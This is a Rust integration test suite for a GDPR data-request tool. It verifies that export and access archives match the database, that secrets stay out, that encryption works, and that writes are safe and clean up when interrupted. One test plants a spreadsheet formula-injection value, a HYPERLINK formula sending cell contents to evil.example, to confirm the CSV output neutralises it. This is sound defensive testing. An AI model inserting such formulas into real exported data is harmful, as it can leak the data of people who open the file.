//! Archives: what is in them matches the store, they are safe to open and to write.

use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use serde::Deserialize;
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::support::{self, Env};

#[derive(Debug, Deserialize)]
struct Manifest {
    format_version: u32,
    controller: String,
    request: String,
    right: String,
    generated_at: String,
    categories: Vec<String>,
    files: Vec<ManifestFile>,
}
#[derive(Debug, Deserialize)]
struct ManifestFile {
    path: String,
    sha256: String,
    bytes: u64,
    rows: u64,
}

/// Every entry of an archive, read with a zip reader.
fn entries(path: &Path, password: Option<&str>) -> BTreeMap<String, Vec<u8>> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).expect("a zip archive");
    let mut out = BTreeMap::new();
    for i in 0..zip.len() {
        let mut f = match password {
            Some(p) => zip.by_index_decrypt(i, p.as_bytes()).expect("decrypts"),
            None => zip.by_index(i).expect("entry"),
        };
        let mut buf = Vec::new();
        f.read_to_end(&mut buf).unwrap();
        out.insert(f.name().to_owned(), buf);
    }
    out
}

/// Open, verify and write an archive for `right` (export or access); returns the request id.
fn archive(env: &Env, right: &str, who: &[&str], file: &str, extra: &[&str]) -> (String, std::process::Output) {
    let o = env.open(right, who);
    let code = env.code(&o.request);
    env.dsr().args(["verify", &o.request, &code]).assert().success();
    let flag = if right == "export" { "--out" } else { "--archive" };
    let mut args = vec![right, o.request.as_str(), flag, file];
    args.extend_from_slice(extra);
    let out = env.run(&args);
    (o.request, out)
}

/// Check the manifest against every entry; return the manifest and the entries.
fn checked(path: &Path, password: Option<&str>) -> (Manifest, BTreeMap<String, Vec<u8>>) {
    let files = entries(path, password);
    let manifest: Manifest = serde_json::from_slice(&files["manifest.json"]).unwrap();
    assert_eq!(manifest.format_version, 1);
    assert!(!manifest.generated_at.is_empty() && !manifest.controller.is_empty());
    let listed: Vec<&str> = manifest.files.iter().map(|f| f.path.as_str()).collect();
    for name in files.keys().filter(|n| *n != "manifest.json") {
        assert!(listed.contains(&name.as_str()), "{name} is not in the manifest");
    }
    for f in &manifest.files {
        let data = files.get(&f.path).unwrap_or_else(|| panic!("{} listed but missing", f.path));
        assert_eq!(f.bytes, data.len() as u64, "{} size", f.path);
        let hash: String = Sha256::digest(data).iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(f.sha256, hash, "{} hash", f.path);
        if let Some(table) = f.path.strip_prefix("csv/").and_then(|p| p.strip_suffix(".csv")) {
            let mut reader = csv::Reader::from_reader(data.as_slice());
            assert!(!reader.headers().unwrap().is_empty());
            let mut rows = 0;
            for record in reader.records() {
                record.expect("valid RFC 4180 CSV");
                rows += 1;
            }
            assert_eq!(f.rows, rows as u64, "{table} row count");
        }
    }
    for name in files.keys() {
        let ok = ["manifest.json", "data.json", "register.json", "index.html", "README.txt", "LEESMIJ.txt"]
            .contains(&name.as_str())
            || (name.starts_with("csv/")
                && name[4..].trim_end_matches(".csv").chars().all(|c| c.is_ascii_lowercase() || c == '_'))
            || (name.starts_with("files/application-document-") && !name[6..].contains('/'));
        assert!(ok, "unexpected entry name {name}");
    }
    (manifest, files)
}

/// Per-table record counts that `lookup` reports for the same person.
fn lookup_counts(env: &Env, who: &[&str]) -> BTreeMap<String, u64> {
    let mut args = vec!["lookup"];
    args.extend_from_slice(who);
    let (v, _): (Value, i32) = env.json(&args);
    v["categories"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|c| c["tables"].as_array().unwrap().iter())
        .map(|t| (t["table"].as_str().unwrap().to_owned(), t["records"].as_u64().unwrap()))
        .collect()
}

fn data_counts(data: &Value) -> BTreeMap<String, u64> {
    let mut out = BTreeMap::new();
    for (_, c) in data["categories"].as_object().unwrap() {
        for (t, rows) in c["tables"].as_object().unwrap() {
            let n = rows.as_array().unwrap().len() as u64;
            if n > 0 {
                out.insert(t.clone(), n);
            }
        }
    }
    out
}

const PORTABLE_ONLY: &[&str] = &["dunning_event", "disclosure"];

#[test]
fn archives_match_the_store_for_people_covering_every_category() {
    let env = Env::with_fixture("virtio");
    let people: Vec<String> = env
        .sql()
        .prepare(
            "SELECT DISTINCT e.address FROM email_address e WHERE e.is_primary = 1 AND e.person_id IN
               (SELECT person_id FROM customer UNION SELECT person_id FROM application UNION SELECT person_id FROM ticket)
             ORDER BY e.person_id",
        )
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert!(people.len() >= 20);
    let mut tables_seen = std::collections::BTreeSet::new();
    for (i, email) in people.iter().enumerate() {
        let who = ["--email", email.as_str()];
        let expected = lookup_counts(&env, &who);
        for right in ["export", "access"] {
            let file = format!("{right}-{i}.zip");
            let (id, out) = archive(&env, right, &who, &file, &[]);
            assert!(out.status.success(), "{email} {right}: {}", support::stderr(&out));
            let path = env.path(&file);
            assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
            let (manifest, files) = checked(&path, None);
            assert_eq!((manifest.request.as_str(), manifest.right.as_str()), (id.as_str(), right));
            let data: Value = serde_json::from_slice(&files["data.json"]).unwrap();
            let got = data_counts(&data);
            // Export (Art. 20) holds only the ticket messages the person wrote, not the staff's replies.
            let replies: i64 = env
                .sql()
                .query_row(
                    "SELECT count(*) FROM ticket_message m JOIN ticket t ON t.id = m.ticket_id
                     JOIN email_address e ON e.person_id = t.person_id WHERE e.address = ?1 AND m.direction = 'out'",
                    [email],
                    |r| r.get(0),
                )
                .unwrap();
            let want: BTreeMap<String, u64> = expected
                .iter()
                .filter(|(t, _)| right == "access" || !PORTABLE_ONLY.contains(&t.as_str()))
                .map(|(t, n)| {
                    (t.clone(), if right == "export" && t == "ticket_message" { *n - replies as u64 } else { *n })
                })
                .filter(|(_, n)| *n > 0)
                .collect();
            assert_eq!(got, want, "{email} {right}: data.json");
            for (table, n) in &want {
                let f = manifest
                    .files
                    .iter()
                    .find(|f| f.path == format!("csv/{table}.csv"))
                    .unwrap_or_else(|| panic!("csv/{table}.csv"));
                assert_eq!(f.rows, *n, "{email} {right}: csv/{table}.csv");
                tables_seen.insert(table.clone());
            }
            let data_rows = manifest.files.iter().find(|f| f.path == "data.json").unwrap().rows;
            assert_eq!(data_rows, want.values().sum::<u64>());
            if right == "export" {
                assert!(
                    !manifest.categories.iter().any(|c| c == "dunning" || c == "disclosures"),
                    "derived data is not portable"
                );
            } else {
                // Only the categories the person has records in (Art. 15(1)(b)).
                let dunned = want.contains_key("dunning_event");
                assert_eq!(manifest.categories.iter().any(|c| c == "dunning"), dunned, "{email}");
            }
            let register: Value = serde_json::from_slice(&files["register.json"]).unwrap();
            for key in [
                "purposes",
                "categories",
                "recipients_of_your_data",
                "retention",
                "automated_decisions",
                "rights",
                "complaint",
            ] {
                assert!(!register[key].is_null(), "register.json lacks {key}");
            }
            for text in ["README.txt", "LEESMIJ.txt", "index.html"] {
                assert!(!files[text].is_empty());
            }
        }
    }
    for table in [
        "person",
        "company",
        "email_address",
        "phone_number",
        "customer",
        "login_account",
        "ip_event",
        "web_session",
        "server_log",
        "payment_method",
        "quote",
        "invoice",
        "payment",
        "dunning_event",
        "service",
        "domain",
        "application",
        "application_document",
        "consent",
        "crash_report",
        "ticket",
        "ticket_message",
        "unsolicited_data",
        "disclosure",
    ] {
        assert!(tables_seen.contains(table), "no archive covered {table}");
    }
}

#[test]
fn data_json_values_are_the_stored_values_and_secrets_stay_out() {
    let env = Env::with_fixture("virtio");
    let (_, out) = archive(&env, "access", &["--email", "jan.devries@example.nl"], "a.zip", &[]);
    assert!(out.status.success());
    let (_, files) = checked(&env.path("a.zip"), None);
    let data: Value = serde_json::from_slice(&files["data.json"]).unwrap();
    let emails = &data["categories"]["email"]["tables"]["email_address"];
    assert_eq!(emails[0]["address"], "jan.devries@example.nl");
    let hash: String = env
        .sql()
        .query_row("SELECT password_hash FROM login_account WHERE username = 'jdevries'", [], |r| r.get(0))
        .unwrap_or_default();
    for (name, bytes) in &files {
        if !hash.is_empty() {
            assert!(!bytes.windows(hash.len()).any(|w| w == hash.as_bytes()), "{name} holds the password hash");
        }
    }
}

#[test]
fn formula_injection_is_neutralised_in_csv_but_json_stays_verbatim() {
    let env = Env::with_fixture("virtio");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
    env.sql().execute("UPDATE person SET given_name = ?1, family_name = '@SUM(1+1)' WHERE id = (SELECT person_id FROM email_address WHERE address = 'jan.devries@example.nl')", [evil]).unwrap();
    let (_, out) = archive(&env, "export", &["--email", "jan.devries@example.nl"], "e.zip", &[]);
    assert!(out.status.success());
    let (_, files) = checked(&env.path("e.zip"), None);
    let mut reader = csv::Reader::from_reader(files["csv/person.csv"].as_slice());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let field = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
    assert_eq!(field("given_name"), format!("'{evil}"));
    assert_eq!(field("family_name"), "'@SUM(1+1)");
    // A phone number in E.164 is a plain number, not a formula: it stays as the person gave it.
    let phones: Vec<String> = csv::Reader::from_reader(files["csv/phone_number.csv"].as_slice())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(phones.iter().any(|c| c == "+31612345678"), "{phones:?}");
    assert!(phones.iter().all(|c| !c.starts_with(['=', '@', '\t', '\r', '\''])), "{phones:?}");
    // RFC 4180 as archive-format.md says: every record ends in CRLF.
    let person = String::from_utf8(files["csv/person.csv"].clone()).unwrap();
    assert!(person.ends_with("\r\n") && !person.replace("\r\n", "").contains('\n'), "{person:?}");
    let data: Value = serde_json::from_slice(&files["data.json"]).unwrap();
    assert_eq!(data["categories"]["identity"]["tables"]["person"][0]["given_name"], evil);
    let html = String::from_utf8(files["index.html"].clone()).unwrap();
    assert!(!html.contains("<a href=\"http://evil"), "stored text is escaped in HTML");
    assert!(html.contains("<th>Given name / Voornaam</th>"), "column headings are readable in both languages");
}

#[test]
fn non_ascii_survives_in_every_format() {
    let env = Env::with_fixture("virtio");
    let (_, out) = archive(&env, "export", &["--email", "Zoë.Çelik@Voorbeeld.NL"], "z.zip", &[]);
    assert!(out.status.success(), "{}", support::stderr(&out));
    let (_, files) = checked(&env.path("z.zip"), None);
    for name in ["data.json", "csv/person.csv", "csv/email_address.csv", "index.html"] {
        let text = String::from_utf8(files[name].clone()).expect("UTF-8");
        assert!(text.contains("Zoë") || text.contains("zoë") || text.contains("Çelik"), "{name}");
    }
}

#[test]
fn attachments_are_files_with_generated_names() {
    let env = Env::with_fixture("virtio");
    let (email, blobs): (String, Vec<(i64, Vec<u8>)>) = {
        let conn = env.sql();
        let person: i64 = conn
            .query_row(
                "SELECT a.person_id FROM application a JOIN application_document d ON d.application_id = a.id LIMIT 1",
                [],
                |r| r.get(0),
            )
            .unwrap();
        let email = conn
            .query_row(
                "SELECT address FROM email_address WHERE person_id = ?1 ORDER BY is_primary DESC LIMIT 1",
                [person],
                |r| r.get(0),
            )
            .unwrap();
        let blobs = conn
            .prepare("SELECT d.id, d.content FROM application_document d JOIN application a ON a.id = d.application_id WHERE a.person_id = ?1")
            .unwrap()
            .query_map([person], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        (email, blobs)
    };
    let (_, out) = archive(&env, "export", &["--email", &email], "cv.zip", &[]);
    assert!(out.status.success());
    let (_, files) = checked(&env.path("cv.zip"), None);
    for (id, content) in blobs {
        let (name, bytes) = files
            .iter()
            .find(|(n, _)| n.starts_with(&format!("files/application-document-{id}.")))
            .expect("attachment present");
        assert_eq!(bytes, &content, "{name}");
    }
    // The guide names the folder the documents are in.
    assert!(String::from_utf8_lossy(&files["README.txt"]).contains("files/          Documents you sent us"));
}

#[test]
fn an_encrypted_archive_opens_with_7z_and_the_passphrase_only() {
    let Some(sevenzip) = support::program("7z") else { return };
    let env = Env::with_fixture("virtio");
    let (_, out) = archive(&env, "export", &["--email", "jan.devries@example.nl"], "enc.zip", &["--encrypt"]);
    assert!(out.status.success(), "{}", support::stderr(&out));
    let err = support::stderr(&out);
    let passphrase =
        err.lines().find_map(|l| l.split("archive): ").nth(1)).expect("passphrase on stderr").trim().to_owned();
    assert!(passphrase.replace('-', "").len() >= 26, "at least 128 bits");
    assert!(!support::stdout(&out).contains(&passphrase), "never on stdout");
    let path = env.path("enc.zip");
    let sevenzip = |pass: &str| {
        std::process::Command::new(&sevenzip)
            .args(["t", &format!("-p{pass}"), path.to_str().unwrap()])
            .output()
            .unwrap()
    };
    assert!(sevenzip(&passphrase).status.success(), "7z opens it with the passphrase");
    assert!(!sevenzip("wrong-passphrase-123").status.success(), "and not without");
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    assert!(zip.by_name("data.json").is_err(), "entries are encrypted");
    checked(&path, Some(&passphrase));
    // From a file instead, and never as a flag value.
    std::fs::write(env.path("pass.txt"), "correct horse battery staple\n").unwrap();
    let (_, out) =
        archive(&env, "access", &["--email", "jan.devries@example.nl"], "enc2.zip", &["--passphrase-file", "pass.txt"]);
    assert!(out.status.success());
    assert!(!support::stderr(&out).contains("correct horse"));
    checked(&env.path("enc2.zip"), Some("correct horse battery staple"));
    let out = env.run(&["export", "DSR-2026-0001", "--out", "x.zip", "--passphrase", "secret"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn an_archive_is_never_overwritten_without_force() {
    let env = Env::with_fixture("virtio");
    std::fs::write(env.path("keep.zip"), "precious").unwrap();
    let (id, out) = archive(&env, "export", &["--email", "jan.devries@example.nl"], "keep.zip", &[]);
    assert_eq!(out.status.code(), Some(14));
    support::assert_one_line_error(&out);
    assert_eq!(std::fs::read_to_string(env.path("keep.zip")).unwrap(), "precious");
    env.dsr().args(["export", &id, "--out", "keep.zip", "--force"]).assert().success();
    checked(&env.path("keep.zip"), None);
    // A link to nowhere is there too; with --force the link is replaced, never what it names.
    std::os::unix::fs::symlink("nowhere/x.zip", env.path("link.zip")).unwrap();
    let out = env.run(&["export", &id, "--out", "link.zip"]);
    assert_eq!(out.status.code(), Some(14), "{}", support::stderr(&out));
    // Not a file: a pipe, a device; and the store or its log, whatever the spelling.
    let fifo = env.path("pipe");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let store = env.db.file_name().unwrap().to_str().unwrap().to_owned();
    for target in ["pipe", "/dev/null", &store, &format!("./{store}-wal"), &format!("{store}.erasures")] {
        let out = env.run(&["export", &id, "--out", target, "--force"]);
        assert_eq!(out.status.code(), Some(2), "{target}: {}", support::stderr(&out));
        support::assert_one_line_error(&out);
    }
    // The store opened through a link is the file the link names.
    std::os::unix::fs::symlink(&env.db, env.path("alias.sqlite")).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_dsr"))
        .current_dir(env.dir.path())
        .env_remove("DSR_NOW")
        .args(["--db", "alias.sqlite", "export", &id, "--out", &store, "--force"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", support::stderr(&out));
    assert!(support::stderr(&out).contains("would write over the store"), "{}", support::stderr(&out));
    let kind = std::fs::symlink_metadata("/dev/null").unwrap().file_type();
    assert!(std::os::unix::fs::FileTypeExt::is_char_device(&kind), "/dev/null is still the device");
    let (_, code): (Value, i32) = env.json(&["lookup", "--email", "jan.devries@example.nl"]);
    assert_eq!(code, 0, "the store is whole");
}

#[test]
fn an_unverified_export_writes_nothing() {
    let env = Env::with_fixture("virtio");
    let o = env.open("export", &["--email", "jan.devries@example.nl"]);
    let out = env.run(&["export", &o.request, "--out", "x.zip"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(!env.path("x.zip").exists());
    let out = env.run(&["access", &o.request, "--archive", "x.zip"]);
    assert_eq!(out.status.code(), Some(9), "an export request is not an access request");
}

/// Make Jan's archive large: `n` log lines in one of his sessions.
fn many_log_lines_for_jan(env: &Env, n: u32) {
    env.sql()
        .execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
             INSERT INTO server_log (logged_at, ip, user_agent, method, path, status, session_id)
             SELECT '2026-10-01T10:00:00Z', '192.0.2.1', 'agent ' || i, 'GET', '/panel/' || hex(randomblob(16)), 200,
                    (SELECT s.id FROM web_session s JOIN customer c ON c.id = s.customer_id JOIN email_address e ON e.person_id = c.person_id
                     WHERE e.address = 'jan.devries@example.nl' LIMIT 1)
             FROM n",
            [n],
        )
        .unwrap();
}

#[test]
fn an_interrupted_write_leaves_no_archive_and_records_nothing() {
    let env = Env::with_fixture("virtio");
    many_log_lines_for_jan(&env, 30000);
    let o = env.open("export", &["--email", "jan.devries@example.nl"]);
    let code = env.code(&o.request);
    env.dsr().args(["verify", &o.request, &code]).assert().success();
    // A file-size limit of 256 KiB kills the writer part-way through (SIGXFSZ), like a full disk.
    let bin = assert_cmd::cargo::cargo_bin("dsr");
    let out = std::process::Command::new("sh")
        .current_dir(env.dir.path())
        .args([
            "-c",
            &format!(
                "ulimit -f 256; exec '{}' --db '{}' export {} --out big.zip",
                bin.display(),
                env.db.display(),
                o.request
            ),
        ])
        .output()
        .unwrap();
    assert!(!out.status.success(), "the write must fail under the limit");
    assert!(!env.path("big.zip").exists(), "no partial archive at the target");
    let (state, disclosed): (String, i64) = env
        .sql()
        .query_row(
            "SELECT state, (SELECT count(*) FROM audit_log WHERE action = 'disclosed') FROM request WHERE id = ?1",
            [&o.request],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((state.as_str(), disclosed), ("verified", 0));
    assert_eq!(part_files(&env).len(), 1, "the killed writer could not clean up after itself");
    // Without the limit it completes, the archive holds every line, and the dead run's
    // unfinished file (personal data) is gone.
    env.dsr().args(["export", &o.request, "--out", "big.zip"]).assert().success();
    let (manifest, _) = checked(&env.path("big.zip"), None);
    assert!(manifest.files.iter().any(|f| f.path == "csv/server_log.csv" && f.rows >= 30000));
    assert_eq!(part_files(&env), Vec::<String>::new(), "stale temporary file removed");
}

fn part_files(env: &Env) -> Vec<String> {
    std::fs::read_dir(env.dir.path())
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.ends_with(".part"))
        .collect()
}

#[test]
fn an_export_stopped_by_a_signal_removes_its_unfinished_file() {
    let env = Env::with_fixture("virtio");
    many_log_lines_for_jan(&env, 300000);
    let o = env.open("access", &["--email", "jan.devries@example.nl"]);
    let code = env.code(&o.request);
    env.dsr().args(["verify", &o.request, &code]).assert().success();
    let bin = assert_cmd::cargo::cargo_bin("dsr");
    for (name, status) in [("TERM", 143), ("INT", 130)] {
        let mut caught = false;
        for attempt in 0..5 {
            let target = format!("a-{name}-{attempt}.zip");
            let mut child = std::process::Command::new(&bin)
                .args(["--db", env.db.to_str().unwrap(), "access", &o.request, "--archive", &target])
                .current_dir(env.dir.path())
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap();
            // Wait for the unfinished file to appear, then stop the writer.
            let exited = loop {
                if let Some(s) = child.try_wait().unwrap() {
                    break Some(s);
                }
                if !part_files(&env).is_empty() {
                    break None;
                }
                std::thread::sleep(std::time::Duration::from_millis(1));
            };
            if exited.is_some() {
                std::fs::remove_file(env.path(&target)).unwrap();
                continue; // finished before it could be stopped: try again
            }
            std::process::Command::new("kill").args([&format!("-{name}"), &child.id().to_string()]).status().unwrap();
            let s = child.wait().unwrap();
            if s.code().is_none() || s.success() {
                // The signal came after the archive was complete: nothing to check this time.
                let _ = std::fs::remove_file(env.path(&target));
                continue;
            }
            assert_eq!(s.code(), Some(status), "SIG{name}");
            assert!(!env.path(&target).exists(), "no archive after SIG{name}");
            assert_eq!(part_files(&env), Vec::<String>::new(), "SIG{name} left an unfinished file");
            caught = true;
            break;
        }
        assert!(caught, "the writer was never caught mid-write with SIG{name}");
    }
}

/// A row that hangs from a row the person did not provide (a note on a staff reply in their
/// ticket) is not in the Art. 20 export, as the reply is not; the access copy has both.
#[test]
fn a_row_under_a_staff_reply_is_not_exported_with_the_persons_own() {
    let env = Env::with_fixture("virtio");
    env.sql()
        .execute(
            "INSERT INTO unsolicited_data (id, ticket_message_id, description, needed, noted_at)
             VALUES (69, 62, 'Staff phone number in the signature', 0, '2026-11-01T00:00:00Z')",
            [],
        )
        .unwrap();
    let fenna = ["--email", "fenna.mulder@example.nl"];
    let (_, out) = archive(&env, "export", &fenna, "e.zip", &[]);
    assert!(out.status.success(), "{}", support::stderr(&out));
    let (_, files) = checked(&env.path("e.zip"), None);
    let csv = String::from_utf8(files["csv/unsolicited_data.csv"].clone()).unwrap();
    assert!(csv.contains("paspoort.jpg"), "a note on her own message is hers: {csv}");
    assert!(!csv.contains("Staff phone number"), "a note on the staff's reply is not: {csv}");
    let data = String::from_utf8(files["data.json"].clone()).unwrap();
    assert!(!data.contains("Staff phone number"));
    let (_, out) = archive(&env, "access", &fenna, "a.zip", &[]);
    assert!(out.status.success(), "{}", support::stderr(&out));
    let (_, files) = checked(&env.path("a.zip"), None);
    assert!(
        String::from_utf8(files["data.json"].clone()).unwrap().contains("Staff phone number"),
        "the access copy holds all"
    );
}

/// A table the data map leaves out of an export (`[table.export] exclude = true`) is in no part
/// of the archive: not in data.json, not as a CSV file, not in index.html; an access archive still
/// holds it (Art. 15 covers all the person's data).
#[test]
fn a_table_the_map_excludes_from_export_is_nowhere_in_the_archive() {
    let env = Env::with_fixture("virtio");
    let who = ["--email", "jan.devries@example.nl"];
    let (id, out) = archive(&env, "export", &who, "before.zip", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    let (manifest, _) = checked(&env.path("before.zip"), None);
    let table = manifest
        .files
        .iter()
        .filter_map(|f| f.path.strip_prefix("csv/").and_then(|p| p.strip_suffix(".csv")))
        .find(|t| *t != "person")
        .expect("a table besides the person's own row")
        .to_owned();
    let n = env
        .sql()
        .execute(
            "UPDATE map_table SET spec = json_set(spec, '$.export.exclude', json('true')) WHERE name = ?1",
            [&table],
        )
        .unwrap();
    assert_eq!(n, 1);
    let out = env.run(&["export", &id, "--out", "after.zip"]);
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    let (manifest, files) = checked(&env.path("after.zip"), None);
    assert!(manifest.files.iter().all(|f| f.path != format!("csv/{table}.csv")), "{table} still exported");
    let data: Value = serde_json::from_slice(&files["data.json"]).unwrap();
    assert!(!data_counts(&data).contains_key(&table), "{table} in data.json");
    let html = String::from_utf8_lossy(&files["index.html"]);
    assert!(!html.contains(&format!("{table}.csv")), "{table} in index.html");
    let (_, out) = archive(&env, "access", &who, "access.zip", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    let (manifest, _) = checked(&env.path("access.zip"), None);
    assert!(manifest.files.iter().any(|f| f.path == format!("csv/{table}.csv")), "access still holds {table}");
}

/// A document row whose company left its media type or its content empty still exports: the
/// file without a type is `.bin`, the row without content names no file; nothing else fails.
#[test]
fn a_document_without_media_type_or_content_does_not_stop_the_export() {
    let env = Env::with_fixture("virtio");
    let conn = env.sql();
    conn.execute_batch(
        "PRAGMA foreign_keys = OFF;
         CREATE TABLE doc_copy (id INTEGER PRIMARY KEY, application_id INTEGER NOT NULL REFERENCES application(id),
             kind TEXT NOT NULL, filename TEXT NOT NULL, media_type TEXT, content BLOB, received_at TEXT NOT NULL) STRICT;
         INSERT INTO doc_copy SELECT * FROM application_document;
         DROP TABLE application_document;
         ALTER TABLE doc_copy RENAME TO application_document;
         CREATE INDEX application_document_application ON application_document(application_id);",
    )
    .unwrap();
    let (person, docs): (i64, Vec<i64>) = {
        let person: i64 = conn
            .query_row(
                "SELECT a.person_id FROM application a JOIN application_document d ON d.application_id = a.id
                 GROUP BY a.person_id HAVING count(*) >= 2 LIMIT 1",
                [],
                |r| r.get(0),
            )
            .unwrap();
        let docs = conn
            .prepare("SELECT d.id FROM application_document d JOIN application a ON a.id = d.application_id WHERE a.person_id = ?1 ORDER BY d.id")
            .unwrap()
            .query_map([person], |r| r.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        (person, docs)
    };
    conn.execute("UPDATE application_document SET media_type = NULL WHERE id = ?1", [docs[0]]).unwrap();
    conn.execute("UPDATE application_document SET content = NULL WHERE id = ?1", [docs[1]]).unwrap();
    let email: String = conn
        .query_row(
            "SELECT address FROM email_address WHERE person_id = ?1 ORDER BY is_primary DESC LIMIT 1",
            [person],
            |r| r.get(0),
        )
        .unwrap();
    for right in ["export", "access"] {
        let file = format!("{right}.zip");
        let (_, out) = archive(&env, right, &["--email", &email], &file, &[]);
        assert_eq!(out.status.code(), Some(0), "{right}: {}", support::stderr(&out));
        let (_, files) = checked(&env.path(&file), None);
        assert!(files.contains_key(&format!("files/application-document-{}.bin", docs[0])), "{right}");
        assert!(!files.keys().any(|n| n.starts_with(&format!("files/application-document-{}.", docs[1]))), "{right}");
    }
}
